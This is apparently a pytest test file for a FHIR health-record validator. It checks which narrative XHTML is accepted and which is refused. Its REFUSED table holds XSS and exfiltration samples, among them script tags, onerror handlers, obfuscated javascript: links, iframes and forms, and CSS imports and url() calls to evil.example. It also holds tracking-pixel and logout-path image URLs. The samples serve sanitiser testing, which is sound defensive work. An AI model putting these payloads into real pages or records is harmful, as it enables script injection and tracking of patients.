"""A narrative's XHTML: R4's div, txt-1 and txt-2, and what a browser would run."""

from __future__ import annotations

import pytest

from carevault.bulk.shape import Shapes
from carevault.fhir.content import DEFAULT_LIMITS
from carevault.fhir.validate import InvalidResource, validate_resource
from carevault.fhir.xhtml import problem

NS = 'xmlns="http://www.w3.org/1999/xhtml"'

ALLOWED = [
    f"<div {NS}>Chan Siu Ming</div>",
    f'<div {NS} xml:lang="zh-HK" lang="zh-HK"><p>陳小明 &amp; &#160;family</p></div>',
    f'<div {NS}><table border="1"><tr><td style="color: red">x</td></tr></table></div>',
    f'<div {NS}><a href="https://example.org/x">link</a><a href="#pr1">local</a></div>',
    f'<div {NS}><img src="data:image/png;base64,iVBORw0KGgo=" alt=""/></div>',
    f'<div {NS}><img src="Binary/scan-1" alt="scan"/><img src="#photo"/></div>',
    # Read as a browser reads a URL: trimmed, its tabs and line breaks dropped.
    f'<div {NS}><img src=" Binary/scan-1&#10; " alt="scan"/><img src="#ph&#9;oto"/></div>',
    f"<div {NS}>Care Plan<br/>Activities: <ul><li>Wound care</li></ul><!-- note --></div>",
]

REFUSED = {
    "script": f"<div {NS}><script>alert(1)</script></div>",
    "event attribute": f'<div {NS}><img src="x" onerror="alert(1)"/></div>',
    "iframe": f'<div {NS}><iframe src="https://evil.example"/></div>',
    "form": f'<div {NS}><form action="https://evil.example"><input name="pw"/></form></div>',
    "object": f'<div {NS}><object data="x.swf">x</object></div>',
    "style element": f"<div {NS}><style>@import url(https://evil.example)</style>x</div>",
    "link element": f'<div {NS}><link rel="stylesheet" href="https://evil.example"/>x</div>',
    "not a div": "plain words, no div at all",
    "no namespace": "<div>words</div>",
    "span at the root": f"<span {NS}>words</span>",
    "svg": f'<div {NS}><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>x</div>',
    "xlink": f'<div {NS} xmlns:l="http://www.w3.org/1999/xlink"><a l:href="x">x</a></div>',
    "javascript link": f'<div {NS}><a href=" JaVa\tScRiPt:alert(1)">x</a></div>',
    "data document link": f'<div {NS}><a href="data:text/html,x">x</a></div>',
    "svg data image": f'<div {NS}><img src="data:image/svg+xml,x"/></div>',
    "image from another server": f'<div {NS}><img src="https://t.example/p.gif?pid=1"/></div>',
    "image, scheme-relative": f'<div {NS}><img src="//t.example/p.gif"/></div>',
    "image, backslashed host": f'<div {NS}><img src="/\\t.example/p.gif"/></div>',
    "image, http": f'<div {NS}><img src=" HTTP://t.example/p.gif"/></div>',
    # Adversary round 75: any other relative URL was fetched from the reader's origin.
    "image, a path of the server": f'<div {NS}><img src="/auth/logout"/></div>',
    "image, a parent path": f'<div {NS}><img src="../../console/incidents"/></div>',
    "image, a query the writer chose": f'<div {NS}><img src="track?pid=1"/></div>',
    "image, a search": f'<div {NS}><img src="Patient/p1/$everything"/></div>',
    "image, Binary's parent": f'<div {NS}><img src="Binary/.."/></div>',
    "image, Binary with a query": f'<div {NS}><img src="Binary/x?y=1"/></div>',
    "image, a space inside its URL": f'<div {NS}><img src="B inary/x"/></div>',
    "image, Binary in lower case": f'<div {NS}><img src="binary/x"/></div>',
    "style url": f'<div {NS}><p style="background: url(https://evil.example/t.gif)">x</p></div>',
    "style escape": f'<div {NS}><p style="background: u\\72l(x)">x</p></div>',
    "style expression": f'<div {NS}><p style="width: expression(alert(1))">x</p></div>',
    "CDATA": f"<div {NS}><![CDATA[<script>alert(1)</script>]]></div>",
    "comment HTML ends early": f"<div {NS}><!--><script>alert(1)</script>--></div>",
    "HTML entity": f"<div {NS}>&nbsp;x</div>",
    "entity declaration": f'<!DOCTYPE div [<!ENTITY a "aaaa">]><div {NS}>&a;</div>',
    "entity declaration after a div": f'<div {NS}>x</div><!DOCTYPE div [<!ENTITY a "a">]>',
    "processing instruction": f'<div {NS}><?xml-stylesheet href="https://evil.example"?>x</div>',
    "two roots": f"<div {NS}>x</div><div {NS}>y</div>",
    "no text (txt-2)": f"<div {NS}> <p> </p></div>",
    "unclosed": f"<div {NS}><p>x</div>",
}


@pytest.mark.parametrize("div", ALLOWED)
def test_a_narrative_of_formatting_text_links_and_images_is_accepted(div: str) -> None:
    assert problem(div) is None


@pytest.mark.parametrize("what", sorted(REFUSED))
def test_active_content_or_anything_but_an_xhtml_div_is_refused(what: str) -> None:
    assert problem(REFUSED[what]) is not None


@pytest.mark.parametrize("what", sorted(REFUSED))
def test_a_refusal_never_repeats_what_was_sent(what: str) -> None:
    reason = problem(REFUSED[what])
    assert reason is not None
    assert "alert" not in reason and "evil" not in reason and "words" not in reason


def test_an_unknown_element_is_not_named_back() -> None:
    reason = problem(f"<div {NS}><chanSiuMing>x</chanSiuMing></div>")
    assert reason is not None and "chanSiuMing" not in reason


def test_a_narrative_is_checked_in_a_contained_resource_and_named_as_fhirpath() -> None:
    practitioner = {
        "resourceType": "Practitioner",
        "id": "pr1",
        "text": {"status": "generated", "div": REFUSED["script"]},
    }
    observation = {
        "resourceType": "Observation",
        "status": "final",
        "code": {"text": "heart rate"},
        "performer": [{"reference": "#pr1"}],
        "contained": [practitioner],
    }
    with pytest.raises(InvalidResource) as refused:
        validate_resource(observation, "Observation")
    assert refused.value.status == 400
    [issue] = refused.value.issues
    assert issue.code == "invalid"
    assert issue.expression == ("Observation.contained[0].text.div",)
    assert "alert" not in issue.diagnostics


def test_the_compiled_import_check_is_not_sure_of_a_narrative_the_rules_refuse() -> None:
    shapes = Shapes(DEFAULT_LIMITS)
    patient: dict[str, object] = {"resourceType": "Patient", "active": True}
    assert shapes.certainly_valid({**patient, "text": {"status": "generated", "div": ALLOWED[0]}})
    for div in REFUSED.values():
        assert not shapes.certainly_valid({**patient, "text": {"status": "generated", "div": div}})
